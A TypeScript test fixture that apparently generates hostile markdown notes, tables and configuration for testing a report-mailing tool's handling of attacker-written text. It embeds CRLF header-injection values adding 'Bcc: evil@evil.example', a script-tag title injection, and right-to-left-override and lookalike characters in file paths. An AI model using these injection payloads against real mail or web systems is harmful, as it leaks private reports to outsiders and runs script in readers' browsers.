import { type MarkdownPayload, markdownPayloads } from './markdown-payloads.ts';

/** The texts of files, by path. */
export type Files = { readonly [path: string]: string };

/** A payload with what its notes are about, and who reads of it. */
export interface Attack extends MarkdownPayload {
  readonly name: string;
  /** The entity of its notes. */
  readonly code: string;
  readonly group: string;
}

/** So few that no table of a report is cut. */
const attacksPerGroup = 5;

export const attacks: readonly Attack[] = Object.entries(markdownPayloads).map(([name, payload], i) => {
  const code = `K${String(i).padStart(2, '0')}`;
  return { ...payload, name, code, group: `readers-${Math.floor(i / attacksPerGroup)}` };
});

/** Where the words of an author stand in every mail, and where besides in one that tells what changed. */
export const spots = {
  report: ['step', 'question', 'vendor', 'check', 'component', 'evidence'],
  changes: ['step', 'question', 'vendor', 'check', 'component', 'evidence', 'blocker', 'heading', 'kpi'],
} as const;
/** The others are for mails that would tell more than ours do. */
export type Spot = (typeof spots)['changes'][number] | 'title' | 'owner' | 'status' | 'decision' | 'account' | 'entity';

/** A word that nobody else writes. */
export function markOf({ code }: Pick<Attack, 'code'>, spot: Spot): string {
  return `${code}${spot}mark`;
}

/** The note of an attack, by its path: the words stand in its front matter, its headings and its items. */
export function noteOf(attack: Attack, trap: string): readonly [path: string, text: string] {
  const { code } = attack;
  const at = wordsAt(attack, trap);
  const inItem = (spot: Spot): string => at(spot).replaceAll('\n', '\n   ');
  const onLine = (spot: Spot): string => at(spot).replaceAll('\n', ' ');
  const text = `---
entity: ${code}
updated: 2026-11-21
owner: ${JSON.stringify(`x\r\nBcc: ${at('owner')}`)}
status: ${JSON.stringify(at('status'))}
---
# ${onLine('title')}

## Blockers

- **${inItem('blocker')}** (priority: P0, owner: ${onLine('owner')})

### ${onLine('heading')}

Words.

## Next steps

1. **${inItem('step')}** (priority: P0, effort: 1d, value: 8, time: 8, risk: 8)

## Decisions

- **${inItem('decision')}**

## Open questions

- **${inItem('question')}** (owner: @dana, due: 2026-12-01)

## Links

${attack.more?.replaceAll('TRAP', trap).replaceAll('MARK', markOf(attack, 'title')) ?? ''}
`;
  return [`handoffs/www\u2060.bank.example/\u202edm.${code}.md`, text];
}

function wordsAt(attack: Attack, trap: string): (spot: Spot) => string {
  return (spot) => attack.words.replaceAll('MARK', markOf(attack, spot)).replaceAll('TRAP', trap);
}

/** The tables of an attack, by their path. */
function tablesOf(attack: Attack, trap: string): readonly [path: string, text: string] {
  const at = cellsAt(attack, trap);
  const text = `# Expenses

| Month | Entity | Vendor | Amount per month | Recurring |
| --- | --- | --- | --- | --- |
| 2026-11 | ${attack.code} | ${at('vendor')} | $10 | yes |

# Cash

| Account | Entity | Balance | As of | Restricted |
| --- | --- | --- | --- | --- |
| ${at('account')} | ${attack.code} | $100 | 2026-11-19 | none |

# Security checks

| Check | Entity | Component | Result | Severity | Evidence |
| --- | --- | --- | --- | --- | --- |
| ${at('check')} | ${attack.code} | ${at('component')} | fail | critical | ${at('evidence')} |

# KPIs

| KPI | Entity | Target | Actual | Unit |
| --- | --- | --- | --- | --- |
| ${at('kpi')} | ${attack.code} | 5 | 3 | % |
`;
  return [`inventory/<b>"'&/${attack.code}.md`, text];
}

function cellsAt(attack: Attack, trap: string): (spot: Spot) => string {
  const at = wordsAt(attack, trap);
  return (spot) => at(spot).replaceAll('\n', ' ').replaceAll('|', '\\|');
}

/** A repository before anybody attacked it: it says to whom what is told, with a name and a title that attack as well. */
export function calmFiles(): Files {
  const rows = attacks.map(({ code }) => `| ${code} | Harbour ${code} | Marina | USD |`);
  const groups = [...new Set(attacks.map(({ group }) => group))].map((group) => {
    const codes = attacks.filter((one) => one.group === group).map(({ code }) => code);
    return `    ${group}: { persona: reader, entities: [${codes.join(', ')}] }`;
  });
  const inject = `</title><script>document.title='owned'</script>\u202e`;
  const named = (word: string): string => JSON.stringify(`${word}\r\nBcc: evil@evil.example\r\n\r\n${inject}`);
  return {
    'inventory/entities.md': `# Entities\n\n| Code | Name | Business type | Base currency |\n| --- | --- | --- | --- |\n${rows.join('\n')}\n`,
    '.github/handoff-reports.yml': `portfolio: ${JSON.stringify(`Harbour ${inject}`)}\nreports: [reader]\nmail:\n  domains: [example.com]\n  subject: '{portfolio} {persona}'\n  groups:\n${groups.join('\n')}\n`,
    '.github/handoff-reports/personas/reader.md': `---\ntitle: ${named('Reader')}\nquestion: ${named('What is told?')}\nsections: [${sections.join(', ')}]\n---\n`,
  };
}

const sections = ['shortfalls', 'thirty-day-plan', 'decisions', 'expense-audit', 'security-gaps'];

/** What is committed to attack it. */
export function hostileFiles(trap: string): Files {
  const entities = attacks.map((attack) => `| ${attack.code} | ${cellsAt(attack, trap)('entity')} | Marina | USD |`);
  return {
    ...Object.fromEntries(attacks.flatMap((attack) => [noteOf(attack, trap), tablesOf(attack, trap)])),
    'inventory/entities.md': `# Entities\n\n| Code | Name | Business type | Base currency |\n| --- | --- | --- | --- |\n${entities.join('\n')}\n`,
  };
}
